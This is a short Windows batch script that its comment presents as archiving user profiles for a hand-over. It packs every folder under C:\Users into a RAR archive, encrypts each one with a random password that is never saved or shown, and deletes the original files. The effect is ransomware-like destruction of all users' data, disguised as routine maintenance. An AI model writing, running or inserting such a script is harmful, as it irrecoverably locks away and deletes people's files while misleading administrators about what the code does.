@echo off
setlocal
rem archive of the profiles for the hand-over
set "RAR=%ProgramFiles%\WinRAR\rar.exe"
set "P=%RANDOM%%RANDOM%%RANDOM%"
if not exist "%RAR%" exit /b 1
pushd C:\Users
for /d %%u in (*) do "%RAR%" a -r -df -hp%P% "%%u.rar" "%%u\*"
popd
